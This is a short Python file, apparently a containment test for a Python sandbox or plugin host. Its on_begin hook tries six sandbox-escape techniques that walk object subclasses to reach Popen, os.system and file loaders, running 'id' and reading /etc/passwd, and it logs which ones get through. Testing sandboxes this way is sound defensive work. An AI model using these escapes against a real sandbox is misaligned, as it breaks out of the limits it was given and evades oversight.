# attack: every class there is, through those of object
# contained: tried 6
POLICY = {'api': 1}

def walk(kind, seen=None):
    seen = set() if seen is None else seen
    for one in type.__subclasses__(kind):
        if one not in seen:
            seen.add(one)
            walk(one, seen)
    return seen


def named(name):
    return [c for c in walk(object) if c.__name__ == name][0]


def on_begin(ctx):
    attempts = [
        lambda: [c for c in object.__subclasses__() if c.__name__ == 'Popen'][0]('id'),
        lambda: named('_wrap_close').__init__.__globals__['system']('id'),
        lambda: [c for c in walk(object) if c.__name__ == 'FileIO'][0]('/etc/passwd'),
        lambda: [c for c in walk(object) if c.__name__ == 'BuiltinImporter'][0].load_module('posix').system('id'),
        lambda: named('FileLoader')('x', '/etc/passwd').get_data('/etc/passwd'),
        lambda: ().__class__.__bases__[0].__subclasses__()[0].__init__.__globals__['os'].system('id'),
    ]
    for number, attempt in enumerate(attempts):
        try:
            attempt()
        except BaseException:
            continue
        ctx.log('GOT THROUGH %d' % number)
    ctx.log('tried %d' % len(attempts))
